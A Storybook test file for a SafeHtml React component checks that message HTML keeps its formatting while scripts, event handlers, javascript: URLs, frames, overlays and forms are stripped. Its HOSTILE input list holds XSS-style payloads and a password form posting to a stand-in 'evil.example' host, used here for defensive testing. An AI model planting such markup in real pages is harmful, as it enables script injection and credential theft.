import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, waitFor, within } from 'storybook/test';
import { SafeHtml } from './SafeHtml';
import { componentOn } from '../../../stories/kit';

/** Message HTML as the reader and the bell show it: formatting kept, anything that could run or escape removed. */
const meta = { title: 'Components/SafeHtml', ...componentOn(SafeHtml) } satisfies Meta<typeof SafeHtml>;

export default meta;
type Story = StoryObj<typeof meta>;

const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const ALLOWED = [
  '<h2>版本说明</h2>',
  '<p class="ql-align-center console-tab">居中 <strong>加粗</strong> <em>斜体</em> <u>下划线</u></p>',
  '<p><span style="color: #c71585; font-weight: bold">彩色文字</span></p>',
  '<ul><li>第一项</li><li>第二项</li></ul>',
  '<p><a href="https://example.com/notes">发布说明</a> <a href="#top">页内</a> <a href="mailto:ops@example.com">邮件</a></p>',
  `<p><img src="${PIXEL}" alt="内联图" width="2000"></p>`,
  '<table><tbody><tr><td>单元格</td></tr></tbody></table>',
].join('');

/** Formatting, lists, tables, links and inline images survive; links open in a new tab; only ql-* classes stay. */
export const AllowedMarkup: Story = {
  args: { html: ALLOWED, 'data-testid': 'safe-html' },
  play: async ({ canvasElement }) => {
    const box = within(canvasElement).getByTestId('safe-html');
    await expect(box).toHaveClass('safe-html');
    await expect(box.querySelector('h2')).toHaveTextContent('版本说明');
    await expect(box.querySelector('strong')).toHaveTextContent('加粗');
    await expect(box.querySelector('em')).toHaveTextContent('斜体');
    await expect(box.querySelectorAll('li')).toHaveLength(2);
    await expect(box.querySelector('td')).toHaveTextContent('单元格');
    // The editor's own class stays, a console class is dropped.
    await expect(box.querySelector('p')?.getAttribute('class')).toBe('ql-align-center');
    const span = box.querySelector('span') as HTMLElement;
    await expect(span.style.color).toBe('rgb(199, 21, 133)');
    await expect(span.style.fontWeight).toBe('bold');
    const [external, anchor, mail] = [...box.querySelectorAll('a')];
    await expect(external).toHaveAttribute('href', 'https://example.com/notes');
    await expect(external).toHaveAttribute('target', '_blank');
    await expect(external).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(anchor).toHaveAttribute('href', '#top');
    await expect(mail).toHaveAttribute('href', 'mailto:ops@example.com');
    const img = box.querySelector('img') as HTMLImageElement;
    await expect(img.getAttribute('src')).toBe(PIXEL);
    // Contained: a 2000 px wide image never overflows the box.
    await waitFor(() => expect(img.getBoundingClientRect().width).toBeLessThanOrEqual(box.getBoundingClientRect().width + 0.5));
  },
};

const HOSTILE = [
  '<p>正常文字<script>window.__safeHtmlPwned = "script"</script></p>',
  '<img src="/missing-story-image.png" onerror="window.__safeHtmlPwned = \'onerror\'" alt="坏图">',
  '<img src="javascript:alert(1)" alt="脚本图">',
  '<p style="position:fixed;inset:0;z-index:99999;background:red;color:green" onclick="window.__safeHtmlPwned=\'click\'">覆盖层</p>',
  '<a href="javascript:window.__safeHtmlPwned=\'link\'">恶意链接</a>',
  '<iframe src="https://example.com"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="password"><button>提交</button></form>',
  '<svg><circle r="5" onload="window.__safeHtmlPwned=\'svg\'"></circle></svg>',
  '<p id="login-username" data-testid="spoof" aria-label="伪装">伪装</p>',
].join('');

/** Scripts, handlers, javascript: URLs, frames, forms, svg, style and positioning are all gone; the text remains. */
export const StrippedMarkup: Story = {
  args: { html: HOSTILE, 'data-testid': 'safe-html' },
  play: async ({ canvasElement }) => {
    const box = within(canvasElement).getByTestId('safe-html');
    await expect(box).toHaveTextContent('正常文字');
    await expect(box).toHaveTextContent('覆盖层');
    await expect(box).toHaveTextContent('恶意链接');
    for (const tag of ['script', 'iframe', 'style', 'form', 'input', 'button', 'svg']) await expect(box.querySelector(tag)).toBeNull();
    for (const el of box.querySelectorAll('*')) {
      for (const attr of el.getAttributeNames()) await expect(attr.startsWith('on')).toBe(false);
    }
    const overlay = [...box.querySelectorAll('p')].find((p) => p.textContent === '覆盖层') as HTMLElement;
    // Only the typographic part of the style survives.
    await expect(overlay.getAttribute('style')).toBe('color: green');
    await expect(getComputedStyle(overlay).position).toBe('static');
    await expect(box.querySelector('a')?.hasAttribute('href')).toBe(false);
    const images = [...box.querySelectorAll('img')];
    await expect(images.map((i) => i.getAttribute('src'))).toEqual(['/missing-story-image.png', null]);
    const spoof = [...box.querySelectorAll('p')].find((p) => p.textContent === '伪装') as HTMLElement;
    await expect(spoof.getAttributeNames()).toEqual([]);
    // Give the broken image time to fail: nothing ran.
    await new Promise((resolve) => setTimeout(resolve, 200));
    await expect((window as { __safeHtmlPwned?: string }).__safeHtmlPwned).toBeUndefined();
  },
};
